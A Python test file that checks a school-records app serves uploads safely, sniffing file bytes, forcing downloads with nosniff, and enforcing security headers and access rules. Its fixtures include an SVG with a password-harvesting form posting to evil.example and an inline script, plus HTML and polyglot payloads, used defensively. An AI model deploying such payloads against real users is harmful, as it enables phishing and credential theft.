"""Uploaded files are served by what their bytes are: only decoded JPEG, PNG and WebP inline, everything else (an SVG
with a form, HTML, a file that merely claims image/*) as a download with nosniff; the security headers are on every
response; the access rules live in engine/attachments.py (issue 14, item 4; issue 13 §2)."""
from __future__ import annotations

import io
import itertools
import re
from contextlib import ExitStack
from typing import Iterator

import pytest
from PIL import Image
from sqlalchemy import select

from engine.attachments import AttachmentNotFound, AttachmentService, sniff
from engine.permissions import Principal
from engine.storage.models import Attachment
from tests.conftest import pg_schema_url
from tests.engine.helpers import principal_of
from tests.support import (CLASS_1, DISTRICT, OTHER_DISTRICT_CLASS, SCHOOL, add_user, build, client_for, login, unit_id,
                           valid_id_number, valid_student)
from tests.workflows.support import Person, make_world
from web.headers import CONTENT_SECURITY_POLICY

SVG = (b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="400" height="200">'
       b'<form xmlns="http://www.w3.org/1999/xhtml" action="https://evil.example/steal"><input name="password"/>'
       b'<button>login</button></form></foreignObject><script>alert(1)</script></svg>')
HTML = b"<!doctype html><html><body><form action='https://evil.example'><input name=p></form></body></html>"


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (4, 3), (200, 30, 30)).save(out, kind)
    return out.getvalue()


# --- what the bytes are -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind, media", [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")])
def test_sniff__decoded_raster_images_inline(kind: str, media: str) -> None:
    assert sniff(picture(kind)) == (media, True)


@pytest.mark.parametrize("data", [
    SVG, HTML, b"%PDF-1.4\n%%EOF\n", picture("GIF"), picture("BMP"), b"", b"\x89PNG\r\n\x1a\n" + HTML,
    picture("PNG")[:40],  # a PNG cut short does not verify
    b"\xff\xd8\xff" + HTML,  # a JPEG's first bytes in front of a page
])
def test_sniff__anything_else_a_download(data: bytes) -> None:
    assert sniff(data) == ("application/octet-stream", False)


def test_sniff__decompression_bomb_a_download() -> None:
    out = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(out, "PNG")
    assert sniff(out.getvalue()) == ("application/octet-stream", False)


# --- served over HTTP ------------------------------------------------------------------------------------------

@pytest.fixture(scope="module", params=["sqlite", "postgresql"], ids=["sqlite", "pg"])
def web(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple]:
    tmp = tmp_path_factory.mktemp("attachments")
    with ExitStack() as stack:
        url = f"sqlite:///{tmp / 'dangan.db'}" if request.param == "sqlite" else stack.enter_context(pg_schema_url())
        app, state = build(url, tmp=tmp)
        stack.callback(state.db.dispose)
        add_user(state, "reg", "registrar", SCHOOL)
        add_user(state, "far", "registrar", "滨江区教育局/滨江中学")
        for client in client_for(app):
            yield client, state, login(client, "reg")


_SERIALS = itertools.count(101)


def _award(client, state, csrf: str, serial: str, upload: tuple) -> str:  # type: ignore[no-untyped-def]
    """An award record with `upload` as its attachment; returns the attachment's id."""
    number = f"{next(_SERIALS):03d}"  # one student per award: the module's database is shared
    student = state.records.create(state.definitions.forms["student"], principal_of(state, "reg"), unit_id(state, CLASS_1),
                                   valid_student(id_card=valid_id_number("11010520080512" + number), name="张三",
                                                 gender="男" if int(number[-1]) % 2 else "女"))
    assert student.ok, student.issues
    response = client.post("/f/award/new", data={
        "_csrf": csrf, "student": str(student.record_id), "kind": "奖励", "level": "校级",
        "title": f"三好学生{serial}", "date": "2024-06-01"},
        files={"attachment": upload}, follow_redirects=False)
    assert response.status_code == 303, response.text[:3000]
    record_id = int(response.headers["location"].rsplit("/", 1)[1])
    with state.db.read() as s:
        return s.scalar(select(Attachment.id).where(Attachment.record_id == record_id, Attachment.form_key == "award"))


@pytest.mark.parametrize("name, data, claimed", [
    ("证书.png", SVG, "image/svg+xml"), ("证书.png", HTML, "image/png"), ("证书.pdf", HTML, "text/html"),
    ("证书.pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf"),
])
def test_download__not_a_decoded_image__attachment_with_nosniff(web, name: str, data: bytes, claimed: str) -> None:  # type: ignore[no-untyped-def]
    client, state, csrf = web
    attachment = _award(client, state, csrf, f"{len(data) % 100:02d}{len(name)}"[:3], (name, data, claimed))
    response = client.get(f"/files/{attachment}")
    assert response.status_code == 200 and response.content == data
    assert response.headers["content-type"] == "application/octet-stream"
    assert response.headers["content-disposition"].startswith("attachment;")
    assert response.headers["x-content-type-options"] == "nosniff"


def test_download__decoded_png__inline_as_png(web) -> None:  # type: ignore[no-untyped-def]
    client, state, csrf = web
    attachment = _award(client, state, csrf, "901", ("证书.png", picture("PNG"), "application/octet-stream"))
    response = client.get(f"/files/{attachment}")
    assert response.headers["content-type"] == "image/png"
    assert response.headers["content-disposition"].startswith("inline;")
    assert response.headers["cache-control"] == "private, no-store"


@pytest.mark.parametrize("path", ["/login", "/static/app.css", "/no/such/page", "/f/student/", "/healthz"])
def test_security_headers__on_every_response(web, path: str) -> None:  # type: ignore[no-untyped-def]
    client, _state, _csrf = web
    response = client.get(path, follow_redirects=False)
    assert response.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    assert "form-action 'self'" in CONTENT_SECURITY_POLICY and "frame-ancestors 'none'" in CONTENT_SECURITY_POLICY
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["x-frame-options"] == "DENY"


def test_service__refuses_whoever_the_record_is_out_of_reach_of(web) -> None:  # type: ignore[no-untyped-def]
    client, state, csrf = web
    attachment = _award(client, state, csrf, "903", ("证书.pdf", b"%PDF-1.4\n%%EOF\n", "application/pdf"))
    service = AttachmentService(state.db, state.records)
    assert service.record_file(state.definitions, principal_of(state, "reg"), attachment).filename == "证书.pdf"
    nobody = Principal(user_id=0, username="nobody", display_name="nobody", roles=())
    for principal in (principal_of(state, "far"), nobody):
        with pytest.raises(AttachmentNotFound):
            service.record_file(state.definitions, principal, attachment)
    with pytest.raises(AttachmentNotFound):  # a record's attachment is not an application's
        service.application_file(state.definitions, principal_of(state, "reg"), attachment)
    with pytest.raises(AttachmentNotFound):
        service.record_file(state.definitions, principal_of(state, "reg"), "no-such-id")


def test_application_attachment__svg_a_download(fresh_db_url: str, tmp_path) -> None:  # type: ignore[no-untyped-def]
    world = make_world(fresh_db_url, tmp_path, {"reg": ("registrar", SCHOOL), "bureau": ("bureau", DISTRICT)})
    try:
        reg = Person(world, "reg")
        created = reg.post("/f/student/new", {"_unit": str(unit_id(world.state, CLASS_1)), "name": "张三", "gender": "男",
                                              "birth_date": "2008-05-12", "ethnicity": "01", "id_card": "110105200805120018",
                                              "enrol_year": "2023", "grade": "高一", "guardian_name": "张父",
                                              "guardian_phone": "13812345678"})
        assert created.status_code == 303, created.text[:2000]
        record = int(created.headers["location"].rsplit("/", 1)[1])
        started = reg.start("suspend", record, {"reason": "因病", "reason_detail": "住院", "start_date": "2026-03-01",
                                                "end_date": "2026-09-01"}, {"proof": ("证明.png", SVG, "image/svg+xml")})
        assert started.status_code == 303, started.text[:2000]
        page = reg.get(started.headers["location"]).text
        link = re.search(r'href="(/wf/files/[^"]+)"', page)
        assert link, "no attachment link on the application page"
        response = reg.get(link[1])
        assert response.status_code == 200 and response.content == SVG
        assert response.headers["content-type"] == "application/octet-stream"
        assert response.headers["content-disposition"].startswith("attachment;")
        assert response.headers["x-content-type-options"] == "nosniff"
        with pytest.raises(AttachmentNotFound):
            AttachmentService(world.state.db, world.state.records).application_file(
                world.state.definitions, Principal(user_id=0, username="x", display_name="x", roles=()),
                link[1].rsplit("/", 1)[1])
        assert OTHER_DISTRICT_CLASS  # the demo tree has a district the registrar cannot reach
    finally:
        world.state.db.dispose()
